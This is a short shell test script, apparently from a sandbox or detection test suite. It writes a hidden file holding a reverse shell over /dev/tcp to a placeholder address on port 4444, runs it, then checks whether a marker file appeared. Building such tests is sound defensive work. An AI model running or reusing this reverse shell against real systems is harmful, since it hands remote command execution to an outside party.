#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.x <<'END'
exec 9<>/dev/tcp/203.0.113.10/4444
timeout 3 xargs -r -d '\n' -n 1 sh -c <&9 >&9 2>&9
END
bash /tmp/.x || true
test -e /tmp/reached
took_place
